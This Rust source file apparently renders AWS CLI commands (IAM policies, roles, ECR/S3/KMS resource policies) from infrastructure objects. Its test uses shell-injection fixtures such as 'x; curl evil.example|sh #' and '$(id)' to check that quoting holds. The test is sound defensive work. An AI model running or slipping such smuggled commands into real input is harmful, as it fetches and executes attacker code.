//! What a person would type to make an object: for review, and for those who may only do it by hand.

use cloudgrant_core::{Object, quoted};
use serde_json::Value;

use crate::names::Names;
use crate::names::tags::{HOME_TAG, STACK_TAG};
use crate::objects::kinds;
use crate::objects::pod_identity_association::PodIdentityAssociation;
use crate::resources::kinds::arn_kind::Elsewhere;
use crate::resources::locator::Locator;

pub(crate) fn commands(object: &Object, names: &Names) -> Vec<String> {
    let attributes = object.attributes.value();
    let text = |key: &str| attributes[key].as_str().unwrap_or_default();
    let word = |key: &str| quoted(text(key));
    let name = quoted(&object.id.name);
    let description = quoted(&names.description());
    let merge = || format!("# merge by Sid: {}", attributes["statement"]);
    match object.id.kind {
        kinds::POLICY => vec![format!(
            "aws iam create-policy --policy-name {name} --path {} --description {description} --tags {} {}{} --policy-document {}",
            word("path"),
            quoted(&format!("Key={STACK_TAG},Value={}", names.stack())),
            quoted(&format!("Key={HOME_TAG},Value={}", names.home())),
            tags(&attributes),
            quoted(&attributes["document"].to_string()),
        )],
        kinds::ROLE => {
            let tags = tags(&attributes);
            let boundary = attributes["boundary"].as_str();
            let boundary = boundary.map(|arn| format!(" --permissions-boundary {}", quoted(arn)));
            vec![format!(
                "aws iam create-role --role-name {name} --path {} --description {description} --tags{}{} --assume-role-policy-document {}",
                word("path"),
                tags,
                boundary.unwrap_or_default(),
                quoted(&attributes["trust"].to_string()),
            )]
        }
        kinds::ATTACHMENT => {
            vec![format!("aws iam attach-role-policy --role-name {} --policy-arn {}", word("role"), word("policy"))]
        }
        kinds::ASSOCIATION => {
            PodIdentityAssociation::of(&object.attributes).iter().map(PodIdentityAssociation::command).collect()
        }
        kinds::STATEMENT => match Locator::parse(text("repository")) {
            Ok(Locator::Repository(repository)) => {
                let at = format!(
                    "--registry-id {} --region {} --repository-name {}",
                    repository.account,
                    quoted(&repository.region),
                    quoted(&repository.name)
                );
                vec![
                    format!("aws ecr get-repository-policy {at}"),
                    merge(),
                    format!("aws ecr set-repository-policy {at} --policy-text file://merged.json"),
                ]
            }
            _ => Vec::new(),
        },
        kinds::BUCKET_STATEMENT => {
            let bucket = quoted(text("bucket").rsplit(':').next().unwrap_or_default());
            vec![
                format!("aws s3api get-bucket-policy --bucket {bucket} --query Policy --output text"),
                merge(),
                format!("aws s3api put-bucket-policy --bucket {bucket} --policy file://merged.json"),
            ]
        }
        kinds::RESOURCE_STATEMENT => match Locator::parse(text("resource")) {
            Ok(Locator::Item(item)) => match &item.kind.elsewhere {
                Elsewhere::ResourcePolicy(policy) => {
                    let [read, write, _] = (policy.commands)(&item, "merged.json");
                    vec![read, merge(), write]
                }
                Elsewhere::KeyPolicy | Elsewhere::Never(_) => Vec::new(),
            },
            _ => Vec::new(),
        },
        kinds::KEY_STATEMENT => {
            let (key, region) = (word("key"), quoted(text("key").split(':').nth(3).unwrap_or_default()));
            vec![
                format!("aws kms get-key-policy --region {region} --key-id {key} --query Policy --output text"),
                merge(),
                format!("aws kms put-key-policy --region {region} --key-id {key} --policy file://merged.json"),
            ]
        }
        _ => Vec::new(),
    }
}

/// Tags as the command takes them, each behind a space.
fn tags(attributes: &Value) -> String {
    let tags = attributes["tags"].as_object().into_iter().flatten();
    let tags = tags.map(|(key, value)| format!("Key={key},Value={}", value.as_str().unwrap_or_default()));
    tags.map(|tag| format!(" {}", quoted(&tag))).collect()
}

#[cfg(test)]
mod tests {
    use cloudgrant_core::{ObjectId, Ownership, Scope};
    use serde_json::json;

    use super::*;
    use crate::config::AccountId;

    /// The words of a POSIX shell's line; nothing where something else than words is in it.
    fn words(line: &str) -> Option<Vec<String>> {
        let (mut words, mut word, mut chars) = (Vec::new(), None::<String>, line.chars());
        while let Some(c) = chars.next() {
            match c {
                '\'' => {
                    let open = word.get_or_insert_default();
                    loop {
                        match chars.next()? {
                            '\'' => break,
                            c => open.push(c),
                        }
                    }
                }
                '\\' => word.get_or_insert_default().push(chars.next()?),
                ' ' => words.extend(word.take()),
                '\n' | '$' | '`' | '"' | ';' | '&' | '|' | '<' | '>' | '(' | ')' | '*' | '?' | '#' | '~' => {
                    return None;
                }
                c => word.get_or_insert_default().push(c),
            }
        }
        words.extend(word);
        Some(words)
    }

    #[test]
    fn whatever_is_in_an_object_stays_one_word_of_its_command() {
        let stack = cloudgrant_core::Stack::parse("tests").expect("a stack");
        let account = AccountId::parse("111122223333").expect("an account");
        let names = Names::new(stack, "aws", account, Some("a.example/id"));
        for odd in ["x; curl evil.example|sh #", "$(id)", "`id`", "it's", "a b", "a\nb", "*", "\"", "&", "~", "\\"] {
            for kind in [
                kinds::POLICY,
                kinds::ROLE,
                kinds::ATTACHMENT,
                kinds::ASSOCIATION,
                kinds::BUCKET_STATEMENT,
                kinds::KEY_STATEMENT,
            ] {
                let attributes = json!({
                    "path": odd, "document": {"a": odd}, "trust": {"a": odd}, "tags": {"key": odd}, "boundary": odd,
                    "role": odd, "policy": odd, "bucket": odd, "account": odd, "key": odd, "statement": {"Sid": odd}, "cluster": odd,
                    "namespace": odd, "service_account": odd,
                });
                let object = Object {
                    id: ObjectId::new(kind, odd),
                    scope: Scope::Global,
                    attributes: attributes.into(),
                    references: Vec::new(),
                    depends_on: Vec::new(),
                    because: Vec::new(),
                    ownership: Ownership::Exclusive,
                    touches: Vec::new(),
                    handoff: None,
                };
                let commands = commands(&object, &names);
                assert!(!commands.is_empty(), "{kind:?}");
                for command in commands {
                    if command.starts_with("# ") {
                        assert!(!command.contains('\n'), "{command}");
                        continue;
                    }
                    let words = words(&command).unwrap_or_else(|| panic!("{command}"));
                    assert!(words.iter().any(|word| word == odd), "{command}: {words:?}");
                }
            }
        }
    }
}
